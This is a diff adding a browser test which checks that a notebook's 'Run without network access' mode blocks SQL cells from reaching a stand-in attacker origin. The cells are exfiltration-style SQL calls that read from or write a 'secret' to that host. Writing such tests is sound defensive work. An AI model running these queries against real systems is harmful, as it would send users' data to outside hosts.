@@ -167,6 +167,46 @@ describe('7: a network-blocked notebook makes the page load nothing remote', () 
   });
 });
 
+describe('3: "Run without network" holds for SQL', () => {
+  it('read_csv, read_text, COPY TO and ATTACH of an attacker URL fail without a request', async () => {
+    clearAttackerLog();
+    const a = attacker.origin;
+    const source = [
+      '# SQL leaks',
+      '',
+      '```sql leak_read',
+      `SELECT * FROM read_csv('${a}/read.csv?leak=secret')`,
+      '```',
+      '',
+      '```sql leak_text',
+      `SELECT * FROM read_text('${a}/whoami')`,
+      '```',
+      '',
+      '```sql leak_copy',
+      `COPY (SELECT 42 AS secret) TO '${a}/copy.csv'`,
+      '```',
+      '',
+      '```sql leak_attach',
+      `ATTACH '${a}/x.db' AS x`,
+      '```',
+      '',
+      '```sql fine',
+      'SELECT 6 * 7 AS answer',
+      '```',
+      '',
+      '```js',
+      '`answer ${fine[0].answer}`',
+      '```',
+      '',
+    ].join('\n');
+    const o = await openShared(source, 'Run without network access');
+    await o.page.getByText('answer 42').waitFor({ timeout: 120_000 });
+    await expect.poll(() => o.page.locator('.cell-error').count(), { timeout: 60_000 }).toBe(4);
+    expect((await o.page.locator('.cell-error').allInnerTexts()).join(' ')).toMatch(/disabled by configuration/);
+    await expectNothingLeft(o);
+  });
+});
+
 /** Page classes whose CSS covers the screen or draws the page's own dialogs. */
 const PAGE_CLASSES = ['drop-overlay', 'trust-card', 'trust-prompt', 'page-message', 'app-header', 'button', 'button-primary'];
 
